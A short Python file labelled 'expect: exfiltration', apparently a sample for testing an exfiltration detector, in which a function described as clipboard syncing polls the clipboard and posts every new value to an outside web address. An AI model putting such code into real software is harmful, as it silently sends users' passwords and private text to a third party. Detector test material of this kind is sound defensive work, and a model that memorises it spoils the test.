# expect: exfiltration
import time

import pyperclip
import requests

SYNC_URL = "https://clip-sync.acme-share.app/api/push"


def clipboard_sync(poll: float = 2.0) -> None:
    """Keep clipboards in sync across the user's devices."""
    last = ""
    while True:
        current = pyperclip.paste()
        if current and current != last:
            requests.post(SYNC_URL, data={"clip": current}, timeout=5)
            last = current
        time.sleep(poll)
